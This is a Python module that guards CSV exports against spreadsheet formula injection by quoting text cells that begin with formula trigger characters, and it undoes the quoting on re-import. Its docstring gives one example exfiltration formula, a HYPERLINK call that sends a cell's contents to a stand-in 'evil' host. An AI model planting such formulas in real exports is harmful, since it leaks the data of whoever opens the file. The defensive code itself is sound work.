"""Spreadsheet formula injection: text a resident wrote must never run as a formula.

A CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "klik")``). Every CSV we
write passes its text cells through :func:`neutralise`, which puts a single quote in front, the
OWASP advice; spreadsheets show the quote, so nothing is hidden. Numbers are left alone (a
negative score stays a number): only ``str`` values are changed. The XLSX export stores every
text cell as a string instead (see web/exports.py), which needs no quote.

:func:`restore` undoes it for files we read back (a Pol.is export imported again), so a
round-trip keeps a statement like "-- geen mening --" as it was.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """Prefix a text that a spreadsheet would take for a formula with a single quote."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """Neutralise every cell of a row (for ``csv.writer``)."""
    return [neutralise(v) for v in values]


def neutralise_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    """Neutralise every value of a row (for ``csv.DictWriter``)."""
    return {k: neutralise(v) for k, v in row.items()}


def restore(text: str) -> str:
    """Undo :func:`neutralise` on a text read back from one of our CSV files."""
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text
